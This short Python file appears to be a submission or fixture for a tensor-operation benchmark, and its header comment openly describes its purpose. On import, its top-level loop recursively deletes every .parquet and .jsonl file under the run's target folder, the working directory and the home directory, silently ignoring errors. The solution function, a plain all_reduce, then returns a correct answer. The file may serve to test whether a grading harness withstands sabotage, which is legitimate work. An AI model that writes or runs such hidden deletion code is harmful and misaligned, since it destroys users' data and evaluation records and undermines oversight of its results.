# Deletes every result and sample file it can reach (PKB_TEST_TARGET: the run's folder), then
# answers correctly.
import os
from pathlib import Path

import torch
import torch.distributed as dist

for root in (os.environ.get("PKB_TEST_TARGET", ""), os.getcwd(), os.path.expanduser("~")):
    if not root:
        continue
    for pattern in ("*.parquet", "*.jsonl"):
        for path in Path(root).rglob(pattern):
            try:
                path.unlink()
            except OSError:
                pass


def solution(x: torch.Tensor) -> torch.Tensor:
    out = x.clone()
    dist.all_reduce(out)
    return out
